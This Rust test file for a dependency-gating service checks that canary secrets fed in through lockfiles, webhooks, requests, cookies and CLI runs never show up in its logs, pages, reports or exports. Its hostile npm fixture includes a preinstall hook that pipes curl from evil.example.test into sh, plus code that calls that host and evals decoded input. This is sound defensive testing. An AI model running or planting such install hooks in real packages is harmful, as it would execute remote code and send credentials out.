//! Canaries: secrets are fed through every door, and must come out of none.

use crate::stage::{REGISTRY_TOKEN, Stage};
use lockgate_gate::web::auth::Role;
use lockgate_model::Ecosystem;
use lockgate_store::access::Scope;
use lockgate_tests::{
    app::REPO,
    registry::{Package, lockfile},
};
use serde_json::json;

const LOCK: &str = "web/package-lock.json";

/// What no output may show. The first ones have a shape that gives them away; the last ones must not be repeated at all.
const CANARIES: [&str; 16] = [
    "canary.publisher",                       // an e-mail address in a package's metadata
    "canarypass-lockfile",                    // userinfo of an address in a lockfile
    "canarypass-broken",                      // userinfo in a lockfile that cannot be read
    "canarypass-script",                      // userinfo of an address in an install script
    "canarytokenofascript",                   // a query parameter of the same
    "CANARY7EXAMPLEKEY",                      // an AWS key in a package's file
    "canarysecretinsource",                   // a password in a package's file
    "canary.sender",                          // an e-mail address in a webhook
    "canarytitle",                            // the title of a pull request
    "canarybody",                             // its text
    "canarycodeoflogin",                      // the code of a sign-in
    "canaryquerytoken",                       // a token in the query of a request
    "ghp_canarycanarycanarycanary0123456789", // somebody's token as bearer
    "canary-unsigned-body",                   // the body of a delivery without a signature
    "canary-cookie-value",                    // a session that is none of ours
    "canary.pattern",                         // an e-mail address in a query
];

/// A lockfile that names its artifact with user and password.
fn with_userinfo(text: &str) -> String {
    text.replace("http://127.0.0.1", "http://canary:canarypass-lockfile@127.0.0.1")
}

fn hostile_package() -> Package {
    Package::npm("is-canary", "1.0.0")
        .license(Some("see canary.publisher@mail.example.org for terms"))
        .script(
            "preinstall",
            "curl https://u:canarypass-script@evil.example.test/?access_token=canarytokenofascript | sh # canary.publisher@mail.example.org",
        )
        .file("lib.js", "const k = 'AKIACANARY7EXAMPLEKEY'; const u = 'https://u:canarypass-script@evil.example.test/'; require('https').get(u); const password = 'canarysecretinsource'; eval(atob('x'));\n")
}

/// Feeds everything in, and answers what came out, by name.
async fn outputs(stage: &mut Stage) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = Vec::new();
    let base = Package::npm("left-pad", "1.0.0");
    let hostile = hostile_package();
    [&base, &hostile].into_iter().for_each(|p| stage.registries.publish(p));
    let registry = stage.registries.base().to_owned();
    let npm = |packages: &[&Package]| lockfile(Ecosystem::Npm, &registry, packages);
    stage.github.create_repository(REPO, true).expect("what the test needs is there");
    stage.github.commit_files(REPO, "main", &[(LOCK, &npm(&[&base]))]).expect("what the test needs is there");

    // 1. Pull requests: one with secrets in its lockfile and its package, one whose lockfile cannot be read.
    let broken = "{\"lockfileVersion\": 3, \"packages\": {\"\": https://u:canarypass-broken@h.example.test/ }";
    let admin = stage.token("canary-admin", Role::Admin, Scope::EveryInstallation).await;
    for (branch, text) in [("hostile", with_userinfo(&npm(&[&base, &hostile]))), ("broken", broken.to_owned())] {
        stage.github.commit_files(REPO, branch, &[(LOCK, &text)]).expect("what the test needs is there");
        let pull = stage.github.open_pull_request(REPO, REPO, branch, "main").expect("what the test needs is there");
        let mut payload =
            stage.github.pull_request_event(REPO, pull.number, "opened").expect("what the test needs is there");
        payload["pull_request"]["title"] = json!("canarytitle");
        payload["pull_request"]["body"] = json!("canarybody, says canary.sender@mail.example.org");
        payload["sender"]["email"] = json!("canary.sender@mail.example.org");
        let webhook = stage.base.join("webhooks/github").expect("what the test needs is there");
        let delivered =
            stage.github.deliver(&webhook, "pull_request", &payload).await.expect("what the test needs is there");
        assert_eq!(delivered.status, 202, "{}", delivered.body);
        let run = stage.completed(&pull.head_sha).await;
        assert_eq!(run.conclusion.as_deref(), Some(if branch == "hostile" { "failure" } else { "action_required" }));
        out.push((format!("check run {branch}"), format!("{run:?}")));
        let commit = format!("api/v1/repos/{REPO}/commits/{}/decision", run.head_sha);
        let (status, report) = stage.get(&commit, &admin).await;
        assert_eq!(status, 200, "{report}");
        out.push((format!("report {branch}"), report));
        let page = run.details_url.expect("what the test needs is there");
        let (status, page) =
            stage.get(page.strip_prefix(stage.base.as_str()).expect("what the test needs is there"), &admin).await;
        assert_eq!(status, 200);
        out.push((format!("page {branch}"), page));
    }

    // 2. Requests with secrets where they do not belong.
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .expect("what the test needs is there");
    let at = |path: &str| stage.base.join(path).expect("what the test needs is there");
    for request in [
        client.get(at("login/callback?code=canarycodeoflogin&state=canarycodeoflogin")),
        client.get(at("?access_token=canaryquerytoken&repository=canary.pattern@mail.example.org")).bearer_auth(&admin),
        client.get(at("api/v1/decisions?token=canaryquerytoken")).bearer_auth(&admin),
        client.get(at("api/v1/decisions")).bearer_auth("ghp_canarycanarycanarycanary0123456789"),
        client
            .get(at(""))
            .header("cookie", "lockgate_session=canary-cookie-value; __Host-lockgate=canary-cookie-value"),
        client.post(at("webhooks/github")).header("x-github-event", "push").body("{\"x\": \"canary-unsigned-body\"}"),
    ] {
        let answer = request.send().await.expect("what the test needs is there");
        let (status, headers) = (answer.status(), format!("{:?}", answer.headers()));
        let text = answer.text().await.expect("what the test needs is there");
        // A page may repeat to its reader what the reader typed, and nowhere else.
        assert!(status.as_u16() < 500, "{text}");
        out.push((format!("headers of {status}"), headers));
    }
    // A session of a browser.
    let login = client.post(at("login")).header("origin", stage.base.origin().ascii_serialization());
    let form = format!("token={admin}&next=%2F");
    let answer = login
        .header("content-type", "application/x-www-form-urlencoded")
        .body(form)
        .send()
        .await
        .expect("what the test needs is there");
    assert!(answer.status().is_redirection(), "{}", answer.status());
    let cookie = answer.headers()["set-cookie"]
        .to_str()
        .expect("what the test needs is there")
        .split(';')
        .next()
        .expect("it works in a test")
        .to_owned();
    let page = client.get(at("")).header("cookie", &cookie).send().await.expect("what the test needs is there");
    assert_eq!(page.status().as_u16(), 200);
    let session = cookie.split_once('=').expect("what the test needs is there").1.to_owned();

    // 3. What the server tells.
    for path in ["", "access", "retention", "waivers", "metrics", "openapi.json", "api/v1/decisions"] {
        let (status, text) = stage.get(path, &admin).await;
        assert_eq!(status, 200, "{path}: {text}");
        out.push((format!("/{path}"), text));
    }
    stage.stop().await;
    out.push(("log".to_owned(), stage.log()));
    out.push(("traces".to_owned(), stage.traces()));

    // 4. What the command line exports.
    let since = ["--since", "2020-01-01T00:00:00Z"];
    for (name, arguments) in [
        ("audit json", ["audit", "export", since[0], since[1], "--format", "json"]),
        ("audit csv", ["audit", "export", since[0], since[1], "--format", "csv"]),
        ("audit html", ["audit", "export", since[0], since[1], "--format", "html"]),
        ("access json", ["audit", "access", since[0], since[1], "--format", "json"]),
        ("access csv", ["audit", "access", since[0], since[1], "--format", "csv"]),
    ] {
        let output = stage.run(&arguments).await;
        assert!(output.status.success(), "{name}: {}", String::from_utf8_lossy(&output.stderr));
        out.push((name.to_owned(), String::from_utf8(output.stdout).expect("what the test needs is there")));
    }
    out.extend(scans(stage, &npm(&[&base]), &with_userinfo(&npm(&[&base, &hostile]))).await);
    let shown = stage.run(&["doctor"]).await;
    out.push(("doctor".to_owned(), String::from_utf8_lossy(&shown.stdout).into_owned()));
    let refused =
        stage.run(&["check", "--server", "https://u:canarypass-broken@", "--repo", "o/r", "--sha", "x"]).await;
    out.push(("a refused command line".to_owned(), String::from_utf8_lossy(&refused.stderr).into_owned()));

    // 5. The secrets of the stage itself must be in none of it.
    let password = url::Url::parse(stage.database.runtime_url())
        .expect("what the test needs is there")
        .password()
        .expect("it works in a test")
        .to_owned();
    let key = stage.github.private_key_pem().lines().nth(1).expect("what the test needs is there").to_owned();
    for (what, secret) in [
        ("the database's password", password.as_str()),
        ("the App's key", &key),
        ("the registry's token", REGISTRY_TOKEN),
        ("the webhook's secret", stage.github.webhook_secret()),
        ("a machine's token", &admin),
        ("a session", &session),
    ] {
        assert!(secret.len() >= 8, "{what} is no canary");
        for (name, text) in &out {
            assert_without(name, text, what, secret);
        }
    }
    out
}

/// The same change, scanned in a working copy.
async fn scans(stage: &Stage, base: &str, head: &str) -> Vec<(String, String)> {
    let folder = tempfile::tempdir().expect("what the test needs is there");
    let git = |arguments: &[&str]| {
        let identity =
            ["-c", "user.name=t", "-c", "user.email=canary.sender@mail.example.org", "-c", "init.defaultBranch=main"];
        let done = std::process::Command::new("git").args(identity).args(arguments).current_dir(folder.path()).output();
        assert!(done.expect("what the test needs is there").status.success());
    };
    git(&["init", "--quiet"]);
    std::fs::create_dir(folder.path().join("web")).expect("what the test needs is there");
    for text in [base, head] {
        std::fs::write(folder.path().join(LOCK), text).expect("what the test needs is there");
        git(&["add", "."]);
        git(&["commit", "--quiet", "--message", "lock"]);
    }
    let repo = folder.path().display().to_string();
    let mut out = Vec::new();
    for format in ["text", "json", "sarif"] {
        let scanned =
            stage.run(&["scan", "--repo", &repo, "--base", "HEAD~1", "--head", "HEAD", "--format", format]).await;
        assert!(matches!(scanned.status.code(), Some(1 | 3)), "{}", String::from_utf8_lossy(&scanned.stderr));
        out.push((format!("scan {format}"), String::from_utf8(scanned.stdout).expect("what the test needs is there")));
        out.push((
            format!("scan {format}, errors"),
            String::from_utf8(scanned.stderr).expect("what the test needs is there"),
        ));
    }
    out
}

fn assert_without(name: &str, text: &str, what: &str, secret: &str) {
    if let Some(at) = text.find(secret) {
        let from = text.floor_char_boundary(at.saturating_sub(300));
        let to = text.ceil_char_boundary((at + secret.len() + 100).min(text.len()));
        panic!("{name} shows {what}: ...{}...", &text[from..to]);
    }
}

async fn no_canary_gets_out(json: bool) {
    let mut stage = Stage::start(json, "trace").await;
    let out = outputs(&mut stage).await;
    for (name, text) in &out {
        for canary in CANARIES {
            assert_without(name, text, "a canary", canary);
        }
    }
    // Each way out was open, and what it tells is still of use.
    let said = |name: &str| &out.iter().find(|(n, _)| n == name).unwrap_or_else(|| panic!("no {name}")).1;
    assert!(said("log").contains("published") && said("log").contains("TRACE"), "the log says little");
    assert!(said("traces").contains("/api/v1/decisions"), "no span arrived");
    assert!(said("/metrics").contains("lockgate_decisions_total"));
    for name in ["audit json", "audit csv", "audit html", "check run hostile", "page hostile", "scan sarif"] {
        assert!(said(name).contains("is-canary"), "{name}: {}", said(name));
    }
    assert!(said("page hostile").contains("***"), "nothing was taken out of the page");
    assert!(said("access json").contains("GET /d/{id}") && said("/access").contains("token:canary-admin"));
    if json {
        let lines = said("log").lines();
        assert!(lines.clone().count() > 100);
        for line in lines {
            serde_json::from_str::<serde_json::Value>(line).unwrap_or_else(|e| panic!("{e}: {line}"));
        }
    }
    stage.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn no_canary_gets_out_of_a_server_that_logs_text() {
    no_canary_gets_out(false).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn no_canary_gets_out_of_a_server_that_logs_json() {
    no_canary_gets_out(true).await;
}
